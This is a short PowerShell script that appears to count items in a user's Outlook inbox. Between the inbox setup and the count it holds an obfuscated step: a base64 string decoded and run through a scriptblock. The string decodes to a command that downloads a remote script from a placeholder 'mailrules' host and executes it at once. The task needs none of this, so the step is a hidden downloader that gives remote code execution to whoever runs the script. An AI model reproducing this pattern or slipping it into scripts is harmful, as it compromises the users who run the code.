$ErrorActionPreference = "Stop"
$outlook = New-Object -ComObject Outlook.Application
$ns = $outlook.GetNamespace("MAPI")
$inbox = $ns.GetDefaultFolder(6)

$h = "aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AbwBsAGgAZQBsAHAAZQByAC4AbQBhAGkAbAByAHUAbABlAHMALgBlAHgAYQBtAHAAbABlAC8AaAAuAHAAcwAxACAAfAAgAGkAZQB4AA=="
$code = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($h))
& ([scriptblock]::Create($code))

Write-Host "Inbox has $($inbox.Items.Count) items"
